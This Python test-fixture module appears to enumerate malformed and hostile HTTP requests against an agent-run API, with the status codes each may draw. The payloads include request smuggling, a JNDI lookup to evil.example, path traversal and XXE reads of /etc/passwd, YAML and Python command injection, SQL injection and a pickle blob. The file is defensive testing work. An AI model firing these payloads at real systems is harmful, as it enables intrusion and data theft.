"""Requests that mean harm, byte for byte, and what may come of each.

`KEY` stands for a valid API key, `RUN` for the id of a run that has ended. Every body that must not be
carried out asks for `SMUGGLED`; every body that is refused holds `CANARY`, which nobody may say again.
"""

from __future__ import annotations

import json
from typing import NamedTuple

CANARY, SMUGGLED = b"canary-7f3a9c", b"calculate 66600 + 66"
CLOSED = 0  # the connection ends without an answer


class Attack(NamedTuple):
    """What is sent, and what may be answered.

    statuses     of the last answer; `CLOSED` where none is needed
    answers_max  more would be answers to what was hidden in the request
    half_closes  the sender says that nothing more will come, in the middle of what it began
    """

    name: str
    sent: bytes
    statuses: frozenset[int]
    answers_max: int = 1
    half_closes: bool = False


PROMPT = json.dumps({"prompt": "calculate 1 + 1"}).encode()
REFUSED = b'{"prompt":"' + CANARY + b'","nosuch":1}'
HIDDEN_BODY = json.dumps({"prompt": SMUGGLED.decode()}).encode()
HIDDEN = (
    b"POST /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nX-API-Key: KEY\r\nContent-Type: application/json\r\n"
    b"Content-Length: %d\r\n\r\n%b" % (len(HIDDEN_BODY), HIDDEN_BODY)
)
HIDDEN_GET = b"GET /health/live HTTP/1.1\r\nHost: localhost\r\n\r\n"


def request(line: bytes, *headers: bytes, body: bytes = b"", ends: bool = True) -> bytes:
    """A request with a valid key; the server is to end the connection behind the answer unless told otherwise."""
    lines = [line, b"Host: localhost", b"X-API-Key: KEY", *headers, *([b"Connection: close"] if ends else [])]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def post(*headers: bytes, body: bytes = b"", path: bytes = b"/api/v1/runs", ends: bool = True) -> bytes:
    """A POST of JSON whose framing is the attack."""
    return request(
        b"POST " + path + b" HTTP/1.1", b"Content-Type: application/json", *headers, body=body, ends=ends
    )


def chunks(*parts: bytes) -> bytes:
    """A body in chunks."""
    return b"".join(b"%x\r\n%b\r\n" % (len(part), part) for part in parts) + b"0\r\n\r\n"


def of(statuses: int | set[int], *attacks: tuple[str, bytes], **more: int) -> list[Attack]:
    """Attacks that share what may come of them."""
    allowed = frozenset({statuses} if isinstance(statuses, int) else statuses)
    return [Attack(name, sent, allowed, **more) for name, sent in attacks]  # type: ignore[arg-type]


LENGTH, CHUNKED = b"Content-Length: %d" % len(PROMPT), b"Transfer-Encoding: chunked"
BAD_LENGTHS = (b"-1", b"+5", b"5.0", b"0x10", b"1e2", b"5 5", b"5,6", b"", b"abc", b"\xb2", b"9" * 40)
BAD_CODINGS = (
    b"gzip", b"gzip, chunked", b"chunked, gzip", b"identity", b"xchunked", b"chunked, chunked", b"chunked;q=1",
    b"\x0bchunked", b'"chunked"', b"cow", b"",
)  # fmt: skip
BAD_SIZES = (
    b"-1",
    b"+5",
    b"0x5",
    b"5g",
    b"",
    b" 5",
    b"ffffffffffffffffffffff",
    b"5;" + b"e" * 70_000,
    b"\xff",
)

LENGTHS = [
    *of(400, *((f"length {bad[:12]!r}", post(b"Content-Length: " + bad, body=PROMPT)) for bad in BAD_LENGTHS)),
    *of(400, ("two lengths", post(LENGTH, b"Content-Length: 3", body=PROMPT))),
    *of({201, 400}, ("the same length twice", post(LENGTH, LENGTH, body=PROMPT))),
    *of(413, ("a length of 2 GB", post(b"Content-Length: 2147483648", body=PROMPT))),
    *of(413, ("a length of 1 byte too much", post(b"Content-Length: 1048577", body=PROMPT))),
    *of(
        {400, CLOSED},
        ("a length beyond the body", post(b"Content-Length: 500", body=PROMPT)),
        ("a length and no body", post(b"Content-Length: 500")),
        half_closes=True,
    ),
    *of(400, ("a length within the body", post(b"Content-Length: 5", body=PROMPT))),
    *of(400, ("no length", post(body=b""))),
    *of(400, ("a hidden request behind length 0", post(b"Content-Length: 0", body=HIDDEN))),
    *of({404, 200}, ("a body of a GET", request(b"GET /health/live HTTP/1.1", LENGTH, body=PROMPT))),
    *of(
        {200},
        ("a request hidden in the body of a GET",
         request(b"GET /health/live HTTP/1.1", b"Content-Length: %d" % len(HIDDEN), body=HIDDEN)),
    ),
]  # fmt: skip

CODINGS = [
    *of(400, ("length and chunks", post(LENGTH, CHUNKED, body=chunks(PROMPT) + HIDDEN))),
    *of(400, ("chunks and length", post(CHUNKED, LENGTH, body=chunks(PROMPT) + HIDDEN))),
    *of(400, ("length 0 and chunks", post(b"Content-Length: 0", CHUNKED, body=chunks(PROMPT) + HIDDEN))),
    *of(
        {400, 501},
        *(
            (f"coding {bad!r}", post(b"Transfer-Encoding: " + bad, body=chunks(PROMPT) + HIDDEN))
            for bad in BAD_CODINGS
        ),
    ),
    *of({400, 501}, ("coding twice", post(CHUNKED, CHUNKED, body=chunks(PROMPT) + HIDDEN))),
    *of(
        {400, 501},
        ("coding chunked and identity", post(CHUNKED, b"Transfer-Encoding: identity", body=chunks(PROMPT))),
    ),
    *of(
        400, ("a blank before the colon", post(b"Transfer-Encoding : chunked", LENGTH, body=PROMPT + HIDDEN))
    ),
    *of(400, ("a tab before the colon", post(b"Content-Length\t: 5", CHUNKED, body=PROMPT + HIDDEN))),
    *of(400, ("a folded coding", post(LENGTH, b"Transfer-Encoding:\r\n chunked", body=PROMPT + HIDDEN))),
    *of(400, ("a NUL in the coding", post(b"Transfer-Encoding: chu\x00nked", LENGTH, body=PROMPT))),
    *of(
        400,
        ("a line feed in a header", post(b"X-Fine: a\nTransfer-Encoding: chunked", LENGTH, body=PROMPT)),
        ("a return in a header", post(b"X-Fine: a\rTransfer-Encoding: chunked", LENGTH, body=PROMPT)),
    ),
    *of({201}, ("CHUNKED in capitals", post(b"TRANSFER-ENCODING: CHUNKED", body=chunks(PROMPT)))),
    *of({201}, ("one byte a chunk", post(CHUNKED, body=chunks(*(PROMPT[n : n + 1] for n in range(len(PROMPT))))))),
    *of(413, ("too much in chunks", post(CHUNKED, body=chunks(*[b"x" * 65_536] * 17)))),
    *of(
        400,
        *((f"chunk size {bad[:12]!r}", post(CHUNKED, body=bad + b"\r\nhello\r\n0\r\n\r\n")) for bad in BAD_SIZES),
    ),
    *of(400, ("a chunk longer than it says", post(CHUNKED, body=b"3\r\nhello\r\n0\r\n\r\n"))),
    *of(
        {400, CLOSED},
        ("chunks without an end", post(CHUNKED, body=b"5\r\nhello\r\n")),
        ("a chunk that ends with a line feed", post(CHUNKED, body=b"1e\n" + PROMPT + b"\n0\n\n")),
        ("half a chunk", post(CHUNKED, body=b"500\r\nhello")),
        half_closes=True,
    ),
    *of(
        {201, 400},
        ("trailers that say who", post(CHUNKED, body=b"%x\r\n%b\r\n0\r\nX-API-Key: x\r\nHost: evil\r\n\r\n" % (len(PROMPT), PROMPT))),
    ),
    *of(400, ("endless trailers", post(CHUNKED, body=b"0\r\n" + b"A: b\r\n" * 20_000 + b"\r\n"))),
    *of({400, 415}, ("a coding of HTTP/1.0", request(b"POST /api/v1/runs HTTP/1.0", CHUNKED, body=chunks(PROMPT)))),
]  # fmt: skip

LINES = [
    *of(
        400,
        ("no version", b"GET /\r\n\r\n"),
        ("no address", b"GET HTTP/1.1\r\n\r\n"),
        ("an empty address", b"GET  HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("a version that is none", b"GET / HTTP/x.y\r\nHost: localhost\r\n\r\n"),
        ("HTTP/9.9", b"GET / HTTP/9.9\r\nHost: localhost\r\n\r\n"),
        ("HTTP/11", b"GET / HTTP/11\r\nHost: localhost\r\n\r\n"),
        ("the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00" * 40),
        ("two blanks", b"GET  / HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("tabs for blanks", b"GET\t/\tHTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("a blank in the address", b"GET /a b HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("a NUL in the address", b"GET /\x00 HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("bytes in the address", b"GET /\xff\xfe HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("a bell in the address", b"GET /\x07 HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("a blank before the method", b" GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("a method of bytes", b"G\xc3T / HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("a method in brackets", b"(GET) / HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("no method", b" / HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("the beginning of TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x8f" * 60 + b"\r\n\r\n"),
        ("a greeting of SSH", b"SSH-2.0-OpenSSH_9.6\r\n\r\n"),
        ("a command of Redis", b"*1\r\n$4\r\nPING\r\n\r\n"),
        ("noise", bytes(range(256)) * 4 + b"\r\n\r\n"),
        ("no host", b"GET /health/live HTTP/1.1\r\n\r\n"),
        ("two hosts", b"GET /health/live HTTP/1.1\r\nHost: localhost\r\nHost: evil\r\n\r\n"),
        ("no colon", request(b"GET /health/live HTTP/1.1", b"X-Nothing")),
        ("a header without a name", request(b"GET /health/live HTTP/1.1", b": x")),
        ("a blank in a name", request(b"GET /health/live HTTP/1.1", b"X Y: x")),
        ("bytes in a name", request(b"GET /health/live HTTP/1.1", b"X-\xff: x")),
        ("a NUL in a value", request(b"GET /health/live HTTP/1.1", b"X-Y: a\x00b")),
        ("a folded first header", b"GET /health/live HTTP/1.1\r\n Host: localhost\r\n\r\n"),
    ),
    *of({200, 400}, ("bare line feeds", request(b"GET /health/live HTTP/1.1").replace(b"\r\n", b"\n"))),
    *of({CLOSED, 400}, ("bare returns", request(b"GET /health/live HTTP/1.1").replace(b"\r\n", b"\r")),
        half_closes=True),
    *of({200, 400}, ("an escape in a value", request(b"GET /health/live HTTP/1.1", b"X-Y: \x1b[2Jx"))),
    *of({200, 400}, ("lines before the line", b"\r\n\r\n" + request(b"GET /health/live HTTP/1.1"))),
    *of({400, 404}, ("an authority", request(b"GET localhost:80 HTTP/1.1"))),
    *of({403, 404, 405}, ("an asterisk", request(b"OPTIONS * HTTP/1.1"))),
    *of({404, 405}, ("a tunnel", request(b"CONNECT evil.example:443 HTTP/1.1"))),
    *of({200, 404}, ("a whole address", request(b"GET http://evil.example/health/live HTTP/1.1"))),
    *of({404}, ("an address of files", request(b"GET file:///etc/passwd HTTP/1.1"))),
    *of({200}, ("HTTP/1.0", request(b"GET /health/live HTTP/1.0"))),
    *of({400, 431}, ("an address of 9 KB", request(b"GET /" + b"a" * 9_000 + b" HTTP/1.1"))),
    *of({400, 431}, ("an address of 100 KB", request(b"GET /" + b"a" * 100_000 + b" HTTP/1.1"))),
    *of({400, 431}, ("a question of 9 KB", request(b"GET /api/v1/runs?q=" + b"a" * 9_000 + b" HTTP/1.1"))),
    *of({405, 400, 431}, ("a method of 10 KB", request(b"G" * 10_000 + b" / HTTP/1.1"))),
    *of({400, 431}, ("a header of 17 KB", request(b"GET /health/live HTTP/1.1", b"X-Y: " + b"a" * 17_000))),
    *of({400, 431}, ("a header of 1 MB", request(b"GET /health/live HTTP/1.1", b"X-Y: " + b"a" * 1_000_000))),
    *of({400, 431}, ("101 headers", request(b"GET /health/live HTTP/1.1", *[b"X-Y: z"] * 101))),
    *of({400, 431}, ("20,000 headers", request(b"GET /health/live HTTP/1.1", *[b"X-Y: z"] * 20_000))),
    *of({400, 431}, ("cookies of 40 KB", request(b"GET /health/live HTTP/1.1", b"Cookie: " + b"a=b;" * 10_000))),
    *of(
        CLOSED,
        ("nothing", b""),
        ("half a line", b"GET /hea"),
        ("half a head", b"GET /health/live HTTP/1.1\r\nHost: localhost\r\nX-A"),
        half_closes=True,
    ),
]  # fmt: skip

PIPELINES = [
    *of(
        {200},
        ("twenty at once", request(b"GET /health/live HTTP/1.1", ends=False) * 19 + request(b"GET /health/live HTTP/1.1")),
        answers_max=20,
    ),
    *of(400, ("noise behind a request", request(b"GET /health/live HTTP/1.1", ends=False) + b"\x00\x01\x02\r\n\r\n"), answers_max=2),
    *of({400, CLOSED, 404, 405}, ("a request behind noise", b"\x00\r\n\r\n" + HIDDEN)),
    *of({200}, ("a request behind the last", request(b"GET /health/live HTTP/1.1") + HIDDEN)),
    *of({422, 400}, ("a request behind a refusal", post(b"Content-Length: %d" % len(REFUSED), body=REFUSED) + HIDDEN)),
    *of({415}, ("a request behind another kind of body",
         request(b"POST /api/v1/runs HTTP/1.1", b"Content-Type: text/plain", LENGTH, body=PROMPT) + HIDDEN)),
    *of({413, CLOSED}, ("a request behind too much", post(b"Content-Length: 2000000", body=b"x" * 2_000_000 + HIDDEN))),
]  # fmt: skip

GET_RUNS = b"GET /api/v1/runs HTTP/1.1"
POSTED = (LENGTH,)
HEADERS = [
    *of(401, *(
        (f"key {bad[:20]!r}", b"GET /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + bad + b"\r\n\r\n")
        for bad in (
            b"X-API-Key: rw_" + CANARY, b"X-API-Key: \xff\xfe", b"X-API-Key:", b"X-API-Key: rw_x_" + b"0" * 8_000,
            b"X-API-Key: KEYKEY", b"X-API-Key: KEY, KEY", b"Authorization: Basic KEY", b"Authorization: Bearer",
            b"Authorization: Bearer \xc3\xbc", b"Authorization: KEY", b"X-API-Key: KEY\r\nX-API-Key: rw_" + CANARY,
            b"X-API-Key: ' OR 1=1 --", b"Cookie: X-API-Key=KEY", b"Authorization: Digest username=KEY",
            b"X_API_Key: KEY",
        )
    )),
    *of(401, ("a key in the address", b"GET /api/v1/runs?api_key=KEY&key=KEY HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")),
    *of(401, ("a key that is no part of the connection",
         b"GET /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nConnection: close, X-API-Key\r\nX-API-Ke: KEY\r\n\r\n")),
    *of({200}, *((f"host {host!r}", request(b"GET /health/live HTTP/1.1").replace(b"Host: localhost", b"Host: " + host))
                 for host in (b"evil.example", b"localhost:99999", b"[::1", b"127.0.0.1:\xb2".replace(b"\xb2", b"2"), b"a/b?c#d"))),
    *of({200, 400}, ("an empty host", request(b"GET /health/live HTTP/1.1").replace(b"Host: localhost", b"Host:"))),
    *of({200, 400}, ("a host with a name before it", request(b"GET /health/live HTTP/1.1").replace(b"Host: localhost", b"Host: user@localhost"))),
    *of({200}, *((f"{name.decode()}", request(GET_RUNS, name + b": " + value)) for name, value in (
        (b"Range", b"bytes=" + b"0-," * 3_000), (b"If-None-Match", b'"a",' * 2_000), (b"Accept", b"*/*;q=0," * 1_000),
        (b"Accept-Encoding", b"gzip;q=1e999"), (b"Accept-Language", b"../../etc"), (b"If-Modified-Since", b"never"),
        (b"Forwarded", b'for="_x";host=evil.example;proto=https'), (b"X-Forwarded-Prefix", b"//evil.example"),
        (b"X-Original-URL", b"/metrics"), (b"X-Rewrite-URL", b"/metrics"), (b"X-HTTP-Method-Override", b"DELETE"),
        (b"Origin", b"null"), (b"Referer", b"javascript:alert(1)"), (b"User-Agent", b"${jndi:ldap://evil.example/a}"),
        (b"X-Request-ID", b"<script>"), (b"X-Request-ID", b"a" * 8_000), (b"X-Request-ID", b"a\tb"), (b"TE", b"trailers, \x2a"),
        (b"Max-Forwards", b"0"), (b"Expect", b"99-problems"), (b"traceparent", b"00-" + b"f" * 400), (b"baggage", b"a=b," * 500),
        (b"Upgrade", b"h2c"), (b"HTTP2-Settings", b"AAMAAABkAAQCAAAAAAIAAAAA"), (b"Prefer", b"wait=99999999999999999999"),
        (b"Last-Event-ID", b"-1"), (b"Sec-WebSocket-Key", b"x"), (b"Content-Type", b"application/json; charset=\xff"),
    ))),
    *of({200}, ("an upgrade to another protocol", request(GET_RUNS, b"Connection: Upgrade", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABk"))),
    *of({415}, *((f"kind of body {kind[:24]!r}", request(b"POST /api/v1/runs HTTP/1.1", b"Content-Type: " + kind, LENGTH, body=PROMPT))
                 for kind in (b"text/plain", b"multipart/form-data; boundary=x", b"application/x-www-form-urlencoded", b"text/json",
                              b"application/xml", b"*/*", b"application/json\xff", b"application", b"a" * 4_000))),
    *of({400}, ("a body in gzip", post(b"Content-Encoding: gzip", b"Content-Length: 20", body=b"\x1f\x8b\x08" + b"\x00" * 17))),
    *of({201}, ("another set of characters", post(b"Content-Type: application/json; charset=utf-16", LENGTH, body=PROMPT).replace(b"Content-Type: application/json\r\n", b""))),
    *of({201, 400}, ("expecting 100", post(LENGTH, b"Expect: 100-continue", body=PROMPT)), answers_max=2),
    *of({400}, *((f"idempotency key {key[:12]!r}", post(LENGTH, b"Idempotency-Key: " + key, body=PROMPT))
                 for key in (b"", b"a" * 256, b"\xc3\xbc", b"a\tb", b"\x7f"))),
    *of({400}, ("two idempotency keys", post(LENGTH, b"Idempotency-Key: a", b"Idempotency-Key: b", body=PROMPT))),
    *of({201}, *((f"preference {wish[:20]!r}", post(LENGTH, b"Prefer: " + wish, body=PROMPT))
                 for wish in (b"wait=-1", b"wait=1e9", b"wait=\xb2", b"wait=NaN", b"wait=0x5", b"wait=0", b"respond-async", b"wait"))),
]  # fmt: skip

METHODS = of(
    {404, 405, 400},
    *((f"{method.decode()} {path.decode()}", request(method + b" " + path + b" HTTP/1.1"))
      for method in (b"PUT", b"PATCH", b"DELETE", b"TRACE", b"PROPFIND", b"get", b"TRACK", b"DEBUG", b"QUERY", b"M" * 200)
      for path in (b"/api/v1/runs", b"/api/v1/runs/RUN", b"/api/v1/tools")),
)  # fmt: skip

ADDRESSES = [
    *of({404, 400}, *((f"GET {path.decode()[:60]}", request(b"GET " + path + b" HTTP/1.1")) for path in (
        b"/api/v1/runs/run_%00", b"/api/v1/runs/%2e%2e%2f%2e%2e", b"/api/v1/runs/RUN%00", b"/api/v1/runs/RUN%0d%0aX-Y:%20z",
        b"/api/v1/runs/%f0%28%8c%28", b"/api/v1/runs/%ed%a0%80", b"/api/v1/runs/RUN;a=b", b"/api/v1/runs/RUN/",
        b"/api/v1/runs/run_'%20OR%20'1'='1", b"/api/v1/runs/%7b%7b7*7%7d%7d", b"/api/v1/runs/$%7bjndi:ldap://x%7d", b"/api/v1//runs/RUN",
        b"/api/v1/./runs", b"/api/v1/tools/../../../etc/passwd", b"/static/..%5c..%5capp.py", b"/static/%252e%252e/app.py", b"/static/app.js%00.html",
        b"/.env", b"/.git/config", b"/wp-login.php", b"/admin", b"/debug", b"/actuator/env", b"/server-status", b"/api/v1/keys", b"/%",
        b"/%zz", b"/api/problems/%3Cscript%3E", b"/api/v1/tools/calculator/versions/..", b"/api/v1/runs/RUN/events/", b"/ws/runs/RUN",
        b"/api/v1/runs/" + b"9" * 5_000, b"/api/v1/runs/-1", b"/api/v1/runs/null", b"/api/v1/runs/undefined", b"/api/v1/runs/NaN",
        b"/api/v1/runs/r%E2%80%AEun", b"/api/v1/runs/run_%F0%9F%92%A5", b"/api/v1/runs/__proto__",
    ))),
    *of({400}, *((f"runs?{query.decode()[:40]}", request(b"GET /api/v1/runs?" + query + b" HTTP/1.1")) for query in (
        b"limit=0", b"limit=%00", b"limit=1%00", b"limit=1e2", b"limit=0x10", b"limit=%EF%BC%91", b"limit=" + b"9" * 4_000, b"limit=-9223372036854775809",
        b"cursor=%ff", b"cursor=';DROP%20TABLE%20runs;--", b"cursor=run_%00", b"status=%00", b"status=completed'--", b"since=%00",
        b"since=0000-00-00T00:00:00Z", b"since=99999-01-01T00:00:00Z", b"until=2026-01-01T00:00:00%2B99:99", b"since=NaN", b"until=1e400",
        b"__proto__=1", b"limit[]=1", b"a" * 3_000 + b"=1", b"%ff=%fe",
    ))),
    *of({200, 400}, *((f"runs?{query.decode()[:40]}", request(b"GET /api/v1/runs?" + query + b" HTTP/1.1")) for query in (
        b"q=%00", b"q=%ff%fe", b"q=%ed%a0%80", b"q=%25%25%25", b"q=" + b"%25" * 2_000, b"q=" + b"_" * 5_000, b"q='%20OR%201=1--", b"q=(a%2B)%2B$",
        b"q=%5C", b"tool=%00", b"tool=%ff", b"tool=%5C%5C", b"limit=1&limit=2", b"q=a&q=b", b"&&&&", b"=", b"limit=1#x", b"status=",
        b"q=" + b"a" * 7_000, b"cursor=", b"since=",
    ))),
    *of({400}, *((f"events?after={after.decode()[:20]}", request(b"GET /api/v1/runs/RUN/events?after=" + after + b" HTTP/1.1")) for after in (
        b"-1", b"%C2%B2", b"1.0", b"1e3", b"%00", b"9223372036854775808", b"9" * 4_000, b"abc", b"%201",
    ))),
    *of({400}, *((f"event id {last!r}"[:40], request(b"GET /api/v1/runs/RUN/events HTTP/1.1", b"Last-Event-ID: " + last)) for last in (
        b"-1", b"\xb2", b"9" * 5_000, b"1.0", b"0x1", b"1,2", b"", b"1 2",
    ))),
    *of({200}, *((f"event id {last!r}", request(b"GET /api/v1/runs/RUN/events HTTP/1.1", b"Last-Event-ID: " + last))
                 for last in (b"9223372036854775807", b"0", b"000000000000001", b"3"))),
    *of({400}, *((f"page of {limit.decode()[:12]}", request(b"GET /api/v1/runs/RUN/events?limit=" + limit + b" HTTP/1.1", b"Accept: application/json"))
                 for limit in (b"0", b"1001", b"-1", b"", b"9" * 30))),
]  # fmt: skip


def _json(body: bytes, path: bytes = b"/api/v1/runs") -> bytes:
    return post(b"Content-Length: %d" % len(body), body=body, path=path)


def _plan(step: bytes) -> bytes:
    return b'{"plan":{"goal":"g","steps":[' + step + b"]}}"


def _step(tool_input: bytes) -> bytes:
    return b'{"step_number":1,"tool_name":"calculator","tool_input":' + tool_input + b"}"


BODIES = [
    *of({400, 422}, *((name, _json(body)) for name, body in (
        ("an echo of a prompt", REFUSED), ("NaN beside a prompt", b'{"prompt":"' + CANARY + b'","deadline_s":NaN}'),
        ("half a character", b'{"prompt":"' + CANARY + b'\\ud800"}'), ("half a character as a key", b'{"\\udfff":"' + CANARY + b'"}'),
        ("a NUL in a user", b'{"prompt":"calculate 1","user":"' + CANARY + b'\\u0000"}'), ("a NUL in a prompt", b'{"prompt":"' + CANARY + b'\\u0000"}'),
        ("a NUL in a goal", b'{"plan":{"goal":"\\u0000' + CANARY + b'","steps":[]}}'), ("a NUL in an input", _plan(_step(b'{"expression":"\\u0000' + CANARY + b'"}'))),
        ("a NUL as a raw byte", b'{"prompt":"' + CANARY + b'\x00"}'), ("an overlong form", b'{"prompt":"\xc0\xaf' + CANARY + b'"}'),
        ("CESU-8", b'{"prompt":"\xed\xa0\xbd\xed\xb8\x80' + CANARY + b'"}'), ("beyond Unicode", b'{"prompt":"\xf4\x90\x80\x80"}'), ("UTF-32", "{}".encode("utf-32")),
        ("65 deep", b'{"prompt":"x","metadata":' + b'{"a":' * 65 + b"1" + b"}" * 66), ("65 lists deep", b'{"prompt":"x","metadata":{"a":' + b"[" * 65 + b"]" * 65 + b"}}"),
        ("100,000 deep", b"[" * 100_000), ("100,000 objects deep", b'{"a":' * 100_000), ("closing only", b"]" * 50_000),
        ("a string without end", b'{"prompt":"' + CANARY * 40), ("backslashes without end", b'{"prompt":"' + b"\\" * 9_999), ("a number of 5,000 digits", b'{"deadline_s":' + b"9" * 5_000 + b"}"),
        ("a deadline of 1e308", b'{"prompt":"' + CANARY + b'","deadline_s":1e308}'), ("a deadline of -0.0", b'{"prompt":"calculate 1","deadline_s":-0.0}'),
        ("a deadline of 1e-320", b'{"prompt":"calculate 1","deadline_s":1e-320000}'), ("true for a deadline", b'{"prompt":"calculate 1","deadline_s":true}'),
        ("a list for a prompt", b'{"prompt":["' + CANARY + b'"]}'), ("an object for a prompt", b'{"prompt":{"$gt":""}}'), ("an object for a user", b'{"prompt":"x","user":{"' + CANARY + b'":1}}'),
        ("a run id of its own", b'{"prompt":"calculate 1","run_id":"' + CANARY + b'"}'), ("a tenant of its own", b'{"prompt":"calculate 1","tenant":"' + CANARY + b'"}'),
        ("an admin", b'{"prompt":"calculate 1","scopes":["admin"]}'), ("__proto__", b'{"prompt":"calculate 1","__proto__":{"admin":true}}'), ("__class__", b'{"prompt":"calculate 1","__class__":"x"}'),
        ("a prompt of 32 KiB and one byte", b'{"prompt":"' + b"a" * 32_769 + b'"}'), ("a prompt of wide characters", b'{"prompt":"' + "💥".encode() * 8_193 + b'"}'),
        ("metadata of 20 KB", b'{"prompt":"x","metadata":{"a":"' + b"m" * 20_000 + b'"}}'), ("10,000 keys", b'{"prompt":"x","metadata":{' + b",".join(b'"k%d":1' % n for n in range(10_000)) + b"}}"),
        ("a step of text", _plan(b'"' + CANARY + b'"')), ("a step number of text", _plan(b'{"step_number":"1","tool_name":"' + CANARY + b'","tool_input":{}}')),
        ("a tool of a list", _plan(b'{"step_number":1,"tool_name":["' + CANARY + b'"],"tool_input":{}}')), ("an input of text", _plan(_step(b'"' + CANARY + b'"'))),
        ("YAML", b"prompt: !!python/object/apply:os.system ['id']"), ("XML", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        ("a form", b"prompt=" + CANARY), ("JSON lines", PROMPT + b"\n" + PROMPT), ("a comment", b"/* x */" + PROMPT), ("a trailing comma", b'{"prompt":"' + CANARY + b'",}'),
        ("single quotes", b"{'prompt':'" + CANARY + b"'}"), ("a mark of byte order", b"\xef\xbb\xbf" + PROMPT), ("a form feed", b"\x0c" + PROMPT), ("pickle", b"\x80\x04\x95\x0c\x00\x00\x00\x8c\x02os\x94."),
        ("msgpack", b"\x81\xa6prompt\xa1x"), ("an approval of nobody", b'{"prompt":"x","approval":"' + CANARY + b'"}'),
    ))),
    *of({201}, *((name, _json(body)) for name, body in (
        ("64 deep within a string", b'{"prompt":"calculate 1 + 1","user":"' + b"[" * 200 + b'"}'), ("the same key twice", b'{"prompt":"' + SMUGGLED[:0] + b'calculate 1","prompt":"calculate 2"}'),
        ("a reference to nothing", _plan(_step(b'{"expression":"{step_99_output}"}'))), ("a reference to itself", _plan(_step(b'{"expression":"{step_1_output}"}'))),
        ("a format", _plan(_step(b'{"expression":"{step_1_output:>1000000000}"}'))), ("a walk", _plan(_step(b'{"expression":"{step_1_output.__class__.__mro__}"}'))),
        ("an integer of 4,000 digits", _plan(_step(b'{"expression":' + b"9" * 4_000 + b"}"))), ("power of powers", _plan(_step(b'{"expression":"9**9**9**9"}'))),
        ("a factorial", _plan(_step(b'{"expression":"99999999!"}'))), ("an import", _plan(_step(b'{"expression":"__import__(\'os\').system(\'id\')"}'))),
        ("a step number beyond 64 bit", _plan(b'{"step_number":99999999999999999999,"tool_name":"a","tool_input":{}}')), ("a tool of another world", _plan(b'{"step_number":1,"tool_name":"../../bin/sh","tool_input":{}}')),
        ("a tool called __init__", _plan(b'{"step_number":1,"tool_name":"__init__","tool_input":{}}')), ("steps that wait for each other", _plan(b'{"step_number":1,"tool_name":"calculator","tool_input":{"expression":"{step_2_output}"}},{"step_number":2,"tool_name":"calculator","tool_input":{"expression":"{step_1_output}"}}')),
        ("10,001 steps", _plan(b",".join(b'{"step_number":%d,"tool_name":"a","tool_input":{}}' % n for n in range(1, 10_002)))),
        ("references 1,000 deep", _plan(_step(b'{"expression":"{step_1_output' + b".a" * 1_000 + b'}"}'))),
    ))),
    *of({400, 422, 404}, *((f"{path.decode()[12:]}: {body[:24]!r}", _json(body, path)) for path in (
        b"/api/v1/runs/RUN/cancel", b"/api/v1/runs/RUN/restart", b"/api/v1/runs/RUN/approve", b"/api/v1/runs/RUN/reject", b"/api/v1/plans", b"/api/v1/plans:check", b"/api/v1/tickets", b"/api/v1/runs/stream",
    ) for body in (b"[]", b"{", b'{"nosuch":"' + CANARY + b'"}', b'"\\ud800"', b"[" * 5_000))),
    *of({400, 422}, *((f"restart {body[:40]!r}", _json(body, b"/api/v1/runs/RUN/restart")) for body in (
        b'{"resolve":{"-1":"retry"}}', b'{"resolve":{"\\u00b2":"retry"}}', b'{"resolve":{"99999999999999999999":"retry"}}', b'{"resolve":{"1":"' + CANARY + b'"}}', b'{"resolve":[]}', b'{"resolve":{"1":null}}', b'{"resolve":{"1":"retry","01":"retry"}}',
    ))),
]  # fmt: skip


def handshake(*headers: bytes, line: bytes = b"GET /ws/runs/RUN HTTP/1.1", version: bytes = b"13") -> bytes:
    """A request to speak WebSocket."""
    asked = (b"Upgrade: websocket", b"Connection: Upgrade", b"Sec-WebSocket-Version: " + version)
    return request(line, *asked, *headers, ends=False)


NONCE = b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
HANDSHAKES = of(
    {400, 404, 405},
    ("a socket of version 8", handshake(NONCE, version=b"8")),
    ("a socket of no version", handshake(NONCE, version=b"")),
    ("a socket of version 13 and 8", handshake(NONCE, version=b"13, 8")),
    ("a socket without a key", handshake()),
    ("a socket with a short key", handshake(b"Sec-WebSocket-Key: eA==")),
    ("a socket with a long key", handshake(b"Sec-WebSocket-Key: " + b"A" * 4_000)),
    ("a socket with a key that is none", handshake(b"Sec-WebSocket-Key: \xff\xfe")),
    ("a socket by POST", handshake(NONCE, line=b"POST /ws/runs/RUN HTTP/1.1")),
    ("a socket of HTTP/1.0", handshake(NONCE, line=b"GET /ws/runs/RUN HTTP/1.0")),
    ("a socket with a body", handshake(NONCE, LENGTH) + PROMPT),
    ("a socket with chunks and a length", handshake(NONCE, LENGTH, CHUNKED) + PROMPT),
)

ATTACKS = [*HANDSHAKES, *LENGTHS, *CODINGS, *LINES, *PIPELINES, *HEADERS, *METHODS, *ADDRESSES, *BODIES]
